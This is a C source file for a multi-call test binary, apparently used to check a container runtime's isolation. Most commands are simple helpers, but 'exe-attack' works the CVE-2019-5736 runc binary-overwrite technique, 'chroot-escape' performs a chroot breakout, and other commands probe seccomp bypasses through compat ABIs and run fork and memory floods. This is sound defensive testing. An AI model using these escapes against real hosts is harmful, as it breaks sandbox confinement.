/* mdtest: a tiny static multi-call binary for throw-away test root filesystems (after crun's
   tests/init.c). Dispatches on argv[0]'s basename, or on argv[1] when called as mdtest. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <sys/prctl.h>

static int
need (int argc, int n, const char *usage)
{
  if (argc >= n)
    return 0;
  fprintf (stderr, "usage: mdtest %s\n", usage);
  exit (2);
}

static void
sleep_seconds (double s)
{
  struct timespec ts;
  ts.tv_sec = (time_t) s;
  ts.tv_nsec = (long) ((s - (double) ts.tv_sec) * 1e9);
  while (nanosleep (&ts, &ts) < 0 && errno == EINTR)
    ;
}

static int
cmd_echo (int argc, char **argv)
{
  int i;
  for (i = 1; i < argc; i++)
    printf ("%s%s", i > 1 ? " " : "", argv[i]);
  printf ("\n");
  return 0;
}

static int
cmd_cat (int argc, char **argv)
{
  char buf[65536];
  ssize_t n;
  int fd = 0;
  if (argc > 1 && (fd = open (argv[1], O_RDONLY)) < 0)
    {
      fprintf (stderr, "cat: %s: %s\n", argv[1], strerror (errno));
      return 1;
    }
  while ((n = read (fd, buf, sizeof buf)) > 0)
    if (write (1, buf, (size_t) n) != n)
      return 1;
  return n < 0;
}

static int
cmd_memhog (int argc, char **argv)
{
  long mb, i;
  need (argc, 2, "memhog MB");
  mb = atol (argv[1]);
  for (i = 1; i <= mb; i++)
    {
      char *p = malloc (1 << 20);
      if (p == NULL)
        {
          printf ("malloc failed at %ld\n", i);
          return 1;
        }
      memset (p, 0x5a, 1 << 20);
      printf ("allocated %ld\n", i);
      fflush (stdout);
    }
  return 0;
}

static int
cmd_forkbomb (int argc, char **argv)
{
  long n, i, forked = 0;
  int first_errno = 0;
  pid_t *kids;
  need (argc, 2, "forkbomb N");
  n = atol (argv[1]);
  kids = calloc ((size_t) (n > 0 ? n : 1), sizeof *kids);
  for (i = 0; i < n; i++)
    {
      pid_t pid = fork ();
      if (pid < 0)
        {
          first_errno = errno;
          break;
        }
      if (pid == 0)
        {
          pause ();
          _exit (0);
        }
      kids[forked++] = pid;
    }
  if (first_errno)
    printf ("forked %ld failed %s\n", forked, strerrorname_np (first_errno));
  else
    printf ("forked %ld\n", forked);
  fflush (stdout);
  for (i = 0; i < forked; i++)
    kill (kids[i], SIGKILL);
  for (i = 0; i < forked; i++)
    waitpid (kids[i], NULL, 0);
  return 0;
}

static int
cmd_spin (int argc, char **argv)
{
  struct timespec start, now;
  double s;
  need (argc, 2, "spin SECONDS");
  s = atof (argv[1]);
  clock_gettime (CLOCK_MONOTONIC, &start);
  do
    clock_gettime (CLOCK_MONOTONIC, &now);
  while ((double) (now.tv_sec - start.tv_sec) + (double) (now.tv_nsec - start.tv_nsec) / 1e9 < s);
  return 0;
}

static int
cmd_hostname (void)
{
  char name[256];
  if (gethostname (name, sizeof name) < 0)
    return 1;
  printf ("%s\n", name);
  return 0;
}

static int
cmd_cmdline (void)
{
  char buf[8192];
  ssize_t n, i;
  int fd = open ("/proc/1/cmdline", O_RDONLY);
  if (fd < 0 || (n = read (fd, buf, sizeof buf)) < 0)
    {
      perror ("/proc/1/cmdline");
      return 1;
    }
  while (n > 0 && buf[n - 1] == '\0')
    n--;
  for (i = 0; i < n; i++)
    if (buf[i] == '\0')
      buf[i] = ' ';
  printf ("%.*s\n", (int) n, buf);
  return 0;
}

static int
cmd_fds (void)
{
  DIR *dir = opendir ("/proc/self/fd");
  struct dirent *e;
  if (dir == NULL)
    {
      perror ("/proc/self/fd");
      return 1;
    }
  while ((e = readdir (dir)) != NULL)
    if (e->d_name[0] != '.' && atoi (e->d_name) != dirfd (dir))
      printf ("%s\n", e->d_name);
  closedir (dir);
  return 0;
}

static void
on_term (int sig)
{
  (void) sig;
  static const char msg[] = "got SIGTERM\n";
  if (write (1, msg, sizeof msg - 1) < 0)
    _exit (1);
  _exit (143);
}

static int
cmd_lines (int argc, char **argv)
{
  long n, i;
  need (argc, 3, "lines N DELAY_MS");
  n = atol (argv[1]);
  for (i = 1; i <= n; i++)
    {
      printf ("line %ld\n", i);
      fflush (stdout);
      if (i < n)
        sleep_seconds (atof (argv[2]) / 1000.0);
    }
  return 0;
}

/* "line I" for I = 1..N as fast as stdio can write them (full buffers: a flood). */
static int
cmd_flood (int argc, char **argv)
{
  long n, i;
  need (argc, 2, "flood N");
  n = atol (argv[1]);
  for (i = 1; i <= n; i++)
    printf ("line %ld\n", i);
  return fflush (stdout) != 0;
}

/* Lines 1..N, odd ones on stdout and even ones on stderr. Before switching streams it waits until the
   reader has taken everything from the other pipe (FIONREAD 0), so the order a reader can see is defined. */
static int
cmd_alternate (int argc, char **argv)
{
  long n, i;
  char line[32];
  need (argc, 2, "alternate N");
  n = atol (argv[1]);
  for (i = 1; i <= n; i++)
    {
      int fd = i % 2 ? 1 : 2, other = i % 2 ? 2 : 1, queued = 0;
      int len = snprintf (line, sizeof line, "%ld\n", i);
      while (ioctl (other, FIONREAD, &queued) == 0 && queued > 0)
        usleep (100);
      if (write (fd, line, (size_t) len) != len)
        return 1;
    }
  return 0;
}

/* Cap*, NoNewPrivs and Seccomp lines of /proc/self/status. */
static int
cmd_security_status (void)
{
  char line[512];
  FILE *f = fopen ("/proc/self/status", "r");
  if (f == NULL)
    return perror ("/proc/self/status"), 1;
  while (fgets (line, sizeof line, f))
    if (!strncmp (line, "Cap", 3) || !strncmp (line, "NoNewPrivs:", 11) || !strncmp (line, "Seccomp:", 8))
      fputs (line, stdout);
  fclose (f);
  return 0;
}

static int
report (long rc)
{
  if (rc < 0)
    printf ("%s\n", strerrorname_np (errno));
  else
    printf ("ok\n");
  return 0;
}

#if defined(__x86_64__)
/* The i386 ABI from a 64-bit process: int $0x80 with i386 numbers (a seccomp filter sees
   AUDIT_ARCH_I386). Returns -errno like the raw syscall. */
static long
syscall_i386 (long nr, long a1)
{
  long rc;
  __asm__ volatile ("int $0x80" : "=a" (rc) : "a" (nr), "b" (a1) : "memory");
  return rc;
}

/* The x32 ABI: the 64-bit instruction with bit 30 set in the number (AUDIT_ARCH_X86_64 too). */
static long
syscall_x32 (long nr, long a1)
{
  long rc;
  __asm__ volatile ("syscall" : "=a" (rc) : "a" (nr | 0x40000000L), "D" (a1) : "rcx", "r11", "memory");
  return rc;
}

static int
report_raw (long rc)
{
  if (rc < 0 && rc > -4096)
    return errno = (int) -rc, report (-1);
  return report (rc);
}
#endif

/* Attempts one privileged operation and prints "ok" or the errno name (EPERM, ENOSYS, ...). */
static int
cmd_syscall (int argc, char **argv)
{
  const char *what;
  need (argc, 2, "syscall unshare-user|unshare-net|i386-unshare-user|i386-getpid|x32-unshare-user|x32-getpid|unshare-mount|mount|clone-newns|clone3|chroot|sethostname");
  what = argv[1];
  if (!strcmp (what, "unshare-user"))
    return report (unshare (CLONE_NEWUSER));
  if (!strcmp (what, "unshare-net"))
    return report (unshare (CLONE_NEWNET));
#if defined(__x86_64__)
  /* The same calls through the compat ABIs (i386 unshare = 310, getpid = 20; x32 = the x86_64 numbers). */
  if (!strcmp (what, "i386-unshare-user"))
    return report_raw (syscall_i386 (310, CLONE_NEWUSER));
  if (!strcmp (what, "i386-getpid"))
    return report_raw (syscall_i386 (20, 0));
  if (!strcmp (what, "x32-unshare-user"))
    return report_raw (syscall_x32 (SYS_unshare, CLONE_NEWUSER));
  if (!strcmp (what, "x32-getpid"))
    return report_raw (syscall_x32 (SYS_getpid, 0));
#endif
  if (!strcmp (what, "unshare-mount"))
    return report (unshare (CLONE_NEWNS));
  if (!strcmp (what, "mount"))
    return report (mount ("none", "/tmp", "tmpfs", 0, NULL));
  if (!strcmp (what, "sethostname"))
    return report (sethostname ("changed", 7));
  if (!strcmp (what, "chroot"))
    return report (chroot ("/"));
  if (!strcmp (what, "clone-newns") || !strcmp (what, "clone3"))
    {
      long pid;
      if (!strcmp (what, "clone3"))
        {
          unsigned long long args[11] = { 0 };
          args[4] = SIGCHLD; /* exit_signal */
          pid = syscall (SYS_clone3, args, sizeof args);
        }
      else
        pid = syscall (SYS_clone, CLONE_NEWNS | SIGCHLD, 0, 0, 0, 0);
      if (pid == 0)
        _exit (0);
      if (pid > 0)
        waitpid ((pid_t) pid, NULL, 0);
      return report (pid);
    }
  fprintf (stderr, "mdtest syscall: unknown operation '%s'\n", what);
  return 2;
}

/* open(PATH, O_WRONLY): "ok" or the errno name. */
static int
cmd_open_write (int argc, char **argv)
{
  need (argc, 2, "open-write PATH");
  return report (open (argv[1], O_WRONLY));
}

/* Prints the memfd seals of PATH in hex (0xf: seal, shrink, grow, write), or the errno name. */
static int
cmd_seals (int argc, char **argv)
{
  int fd, seals;
  need (argc, 2, "seals PATH");
  fd = open (argv[1], O_RDONLY | O_CLOEXEC);
  seals = fd < 0 ? -1 : fcntl (fd, F_GET_SEALS);
  if (seals < 0)
    return printf ("%s\n", strerrorname_np (errno)), 0;
  return printf ("0x%x\n", (unsigned) seals), 0;
}

/* CVE-2019-5736: catch a process of this container that runs a file we do not (its /proc/PID/exe
   opens only once it is dumpable, e.g. the helper run by a `#!/proc/self/exe` script), keep an O_PATH
   fd to that file, then reopen it for writing through /proc/self/fd until no running copy keeps it
   busy, and overwrite its first bytes. Prints "caught PATH", then "wrote" or "refused OP:ERRNO";
   after SECONDS without a catch "missed", without a write "refused open:ETXTBSY". */
static int
cmd_exe_attack (int argc, char **argv)
{
  struct stat self, shell, st;
  char path[64], target[256];
  time_t deadline;
  int fd = -1, wfd;
  ssize_t n;

  need (argc, 2, "exe-attack SECONDS");
  setvbuf (stdout, NULL, _IOLBF, 0);
  deadline = time (NULL) + atoi (argv[1]);
  if (stat ("/proc/self/exe", &self) < 0 || stat ("/bin/sh", &shell) < 0)
    return printf ("missed stat:%s\n", strerrorname_np (errno)), 1;
  while (fd < 0 && time (NULL) < deadline)
    {
      /* The process an exec starts is the last PID made in this namespace. */
      int last = 0, lfd = open ("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
      if (lfd >= 0)
        {
          char num[16] = "";
          if (read (lfd, num, sizeof num - 1) > 0)
            last = atoi (num);
          close (lfd);
        }
      if (last <= 1 || last == getpid ())
        continue;
      snprintf (path, sizeof path, "/proc/%d/exe", last);
      fd = open (path, O_PATH | O_CLOEXEC);
      if (fd >= 0 && (fstat (fd, &st) < 0 || (st.st_dev == self.st_dev && st.st_ino == self.st_ino)
                      || (st.st_dev == shell.st_dev && st.st_ino == shell.st_ino)))
        {
          close (fd);
          fd = -1;
        }
    }
  if (fd < 0)
    return printf ("missed\n"), 1;
  snprintf (path, sizeof path, "/proc/self/fd/%d", fd);
  n = readlink (path, target, sizeof target - 1);
  target[n > 0 ? n : 0] = '\0';
  printf ("caught %s\n", target);
  for (;;)
    {
      wfd = open (path, O_WRONLY | O_CLOEXEC);
      if (wfd >= 0)
        break;
      if (errno != ETXTBSY || time (NULL) >= deadline)
        return printf ("refused open:%s\n", strerrorname_np (errno)), 0;
      sleep_seconds (0.02);
    }
  n = pwrite (wfd, "MDPWNED\n", 8, 0);
  if (n != 8)
    return printf ("refused write:%s\n", n < 0 ? strerrorname_np (errno) : "short"), 0;
  return printf ("wrote\n"), 0;
}

/* The classic chroot escape: chroot into a subdirectory while keeping a cwd (and an fd) outside it,
   walk up with "..", chroot("."), then try to read SENTINEL. Prints "escaped TEXT" or "confined ERRNO". */
static int
cmd_chroot_escape (int argc, char **argv)
{
  char buf[256];
  int outside, fd, i;
  ssize_t n;
  need (argc, 2, "chroot-escape SENTINEL");
  mkdir ("/tmp/chroot-escape", 0700);
  outside = open ("/", O_RDONLY | O_DIRECTORY);
  if (chroot ("/tmp/chroot-escape") < 0)
    return printf ("confined chroot:%s\n", strerrorname_np (errno)), 0;
  if (fchdir (outside) < 0)
    return printf ("confined fchdir:%s\n", strerrorname_np (errno)), 0;
  for (i = 0; i < 64; i++)
    if (chdir ("..") < 0)
      break;
  if (chroot (".") < 0)
    return printf ("confined chroot2:%s\n", strerrorname_np (errno)), 0;
  fd = open (argv[1], O_RDONLY);
  if (fd < 0)
    return printf ("confined %s\n", strerrorname_np (errno)), 0;
  n = read (fd, buf, sizeof buf - 1);
  buf[n > 0 ? n : 0] = '\0';
  printf ("escaped %s\n", buf);
  return 0;
}

/* deny-mount FLAGS COMMAND...: runs COMMAND (and everything it starts) with mount(2) failing EPERM when its flags are
   exactly FLAGS, as a kernel refusing that mount would: the rootless tests make native overlayfs (MS_NODEV alone)
   fail this way to prove the fuse-overlayfs fallback. Needs root or no_new_privs, like any seccomp filter. */
static int
cmd_deny_mount (int argc, char **argv)
{
#if defined(__x86_64__)
  const unsigned arch = AUDIT_ARCH_X86_64;
#elif defined(__aarch64__)
  const unsigned arch = AUDIT_ARCH_AARCH64;
#endif
  unsigned long flags;
  need (argc, 3, "deny-mount FLAGS COMMAND...");
  flags = strtoul (argv[1], NULL, 10);
  struct sock_filter code[] = {
    BPF_STMT (BPF_LD | BPF_W | BPF_ABS, offsetof (struct seccomp_data, arch)),
    BPF_JUMP (BPF_JMP | BPF_JEQ | BPF_K, arch, 0, 7),
    BPF_STMT (BPF_LD | BPF_W | BPF_ABS, offsetof (struct seccomp_data, nr)),
    BPF_JUMP (BPF_JMP | BPF_JEQ | BPF_K, SYS_mount, 0, 5),
    BPF_STMT (BPF_LD | BPF_W | BPF_ABS, offsetof (struct seccomp_data, args[3])),
    BPF_JUMP (BPF_JMP | BPF_JEQ | BPF_K, (unsigned) flags, 0, 3),
    BPF_STMT (BPF_LD | BPF_W | BPF_ABS, offsetof (struct seccomp_data, args[3]) + 4),
    BPF_JUMP (BPF_JMP | BPF_JEQ | BPF_K, (unsigned) (flags >> 32), 0, 1),
    BPF_STMT (BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM),
    BPF_STMT (BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  struct sock_fprog prog = { .len = sizeof code / sizeof code[0], .filter = code };
  if (prctl (PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog) < 0)
    return perror ("deny-mount: seccomp"), 1;
  execvp (argv[2], argv + 2);
  return perror (argv[2]), 127;
}

static int
dispatch (const char *cmd, int argc, char **argv)
{
  if (!strcmp (cmd, "true"))
    return 0;
  if (!strcmp (cmd, "false"))
    return 1;
  if (!strcmp (cmd, "exit"))
    return need (argc, 2, "exit N"), atoi (argv[1]);
  if (!strcmp (cmd, "sleep"))
    return need (argc, 2, "sleep SECONDS"), sleep_seconds (atof (argv[1])), 0;
  if (!strcmp (cmd, "echo"))
    return cmd_echo (argc, argv);
  if (!strcmp (cmd, "cat"))
    return cmd_cat (argc, argv);
  if (!strcmp (cmd, "memhog"))
    return cmd_memhog (argc, argv);
  if (!strcmp (cmd, "forkbomb"))
    return cmd_forkbomb (argc, argv);
  if (!strcmp (cmd, "spin"))
    return cmd_spin (argc, argv);
  if (!strcmp (cmd, "pid"))
    return printf ("%d\n", (int) getpid ()), 0;
  if (!strcmp (cmd, "hostname"))
    return cmd_hostname ();
  if (!strcmp (cmd, "cmdline"))
    return cmd_cmdline ();
  if (!strcmp (cmd, "fds"))
    return cmd_fds ();
  if (!strcmp (cmd, "trapterm"))
    {
      signal (SIGTERM, on_term);
      /* Said once the handler is in: a test that signals earlier would race it (PID 1 ignores an unhandled SIGTERM). */
      static const char armed[] = "trapping SIGTERM\n";
      if (write (1, armed, sizeof armed - 1) < 0)
        return 1;
      for (;;)
        pause ();
    }
  if (!strcmp (cmd, "lines"))
    return cmd_lines (argc, argv);
  if (!strcmp (cmd, "flood"))
    return cmd_flood (argc, argv);
  if (!strcmp (cmd, "alternate"))
    return cmd_alternate (argc, argv);
  if (!strcmp (cmd, "security-status"))
    return cmd_security_status ();
  if (!strcmp (cmd, "syscall"))
    return cmd_syscall (argc, argv);
  if (!strcmp (cmd, "open-write"))
    return cmd_open_write (argc, argv);
  if (!strcmp (cmd, "seals"))
    return cmd_seals (argc, argv);
  if (!strcmp (cmd, "exe-attack"))
    return cmd_exe_attack (argc, argv);
  if (!strcmp (cmd, "chroot-escape"))
    return cmd_chroot_escape (argc, argv);
  if (!strcmp (cmd, "deny-mount"))
    return cmd_deny_mount (argc, argv);
  if (!strcmp (cmd, "euid"))
    return printf ("%d\n", (int) geteuid ()), 0;
  if (!strcmp (cmd, "stderr"))
    {
      need (argc, 2, "stderr TEXT");
      fprintf (stderr, "%s\n", argv[1]);
      return 0;
    }
  fprintf (stderr, "mdtest: unknown command '%s'\n"
           "commands: true false exit sleep echo cat memhog forkbomb spin pid hostname cmdline "
           "fds trapterm lines flood alternate stderr security-status syscall open-write seals exe-attack chroot-escape deny-mount euid\n", cmd);
  return 2;
}

int
main (int argc, char **argv)
{
  const char *base = strrchr (argv[0], '/');
  base = base ? base + 1 : argv[0];
  if (strcmp (base, "mdtest") != 0)
    return dispatch (base, argc, argv);
  if (argc < 2)
    return dispatch ("", argc, argv);
  return dispatch (argv[1], argc - 1, argv + 1);
}
